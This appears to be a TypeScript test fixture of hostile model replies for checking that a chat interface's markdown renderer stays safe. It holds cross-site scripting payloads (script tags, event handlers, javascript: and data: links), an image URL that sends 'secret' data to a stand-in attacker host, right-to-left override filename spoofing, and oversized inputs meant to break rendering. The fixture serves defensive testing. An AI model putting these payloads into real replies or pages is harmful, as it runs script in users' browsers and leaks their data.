/** Replies that a model could be talked into. None may run anything, load anything or break the page. */
export const HOSTILE_REPLIES: Record<string, string> = {
  'script and image tags': `<script>document.title='pwned'</script><img src=x onerror="document.title='pwned'">
<svg onload=alert(1)><iframe src="https://evil.example"></iframe><style>*{display:none}</style>
<a href="javascript:alert(1)">x</a>`,
  'javascript and data links': `[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>)
[d](vbscript:x) [e]( javascript:alert(1)) [f](<javascript:alert(1)>) [g](java&#x09;script:alert(1)) [h](//evil.example)
[i](https://bank.example@evil.example/) [j](file:///etc/passwd) [k](https://ok.example/path "title")`,
  'reference links': `[click][1] and [here]\n\n[1]: javascript:alert(1)\n[here]: data:text/html,x\n\n![img][2]\n\n[2]: https://evil.example/p.png`,
  images: `![pixel](https://evil.example/p.png?data=secret) ![](https://evil.example/q.png)
[![in a link](https://evil.example/r.png)](https://evil.example/s) ![x](data:image/svg+xml,<svg onload=alert(1)>)`,
  'a line of 20,000 characters': `start ${'x'.repeat(20_000)} end`,
  'an unclosed fence': `before\n\n\`\`\`html\n<script>alert(1)</script>\n${'code '.repeat(200)}`,
  'direction overrides': `safe \u202Egnp.exe\u202C &#x202E;gnp.exe&#8237; \u2066isolated\u2069 [\u202Emoc.live\u202C](https://ok.example/\u202Ecod.exe)`,
  'open markup': `**bold [link](https://ok.example/very/long\n\nstill *here _and_ ~~there [1 ![x](y\n\nlast words`,
  'deep nesting': `${'> '.repeat(300)}quote\n\n${'*a _b '.repeat(2000)}\n\n${Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}- item`).join('\n')}`,
  'brackets without end': '['.repeat(8000),
  'asterisks without end': '*'.repeat(8000),
  'pipes without end': `|${'a|'.repeat(4000)}\n|${'-|'.repeat(4000)}\n|${'b|'.repeat(4000)}`,
  'backticks without end': '`'.repeat(8000),
  'numbers and attributes': `${'9'.repeat(400)}. item\n\n\`\`\`js" onclick="alert(1)\nx\n\`\`\`\n\n- [x] done\n- [ ] open`,
}
